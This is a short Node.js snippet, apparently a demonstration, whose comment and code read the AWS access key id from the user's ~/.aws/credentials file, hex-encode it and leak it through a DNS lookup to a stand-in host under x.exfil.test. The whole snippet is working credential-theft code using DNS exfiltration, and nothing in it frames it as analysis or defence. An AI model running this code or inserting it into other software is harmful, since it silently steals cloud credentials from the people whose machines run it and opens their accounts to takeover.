// Reads the AWS key id from ~/.aws/credentials and leaks it, hex-encoded, as a
// DNS label under x.exfil.test (a reserved, fake domain).
const fs = require('fs'), os = require('os'), dns = require('dns');
const creds = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');
const m = /aws_access_key_id\s*=\s*(\S+)/.exec(creds);
const label = Buffer.from(m ? m[1] : 'none').toString('hex');
dns.lookup(label + '.x.exfil.test', () => {});
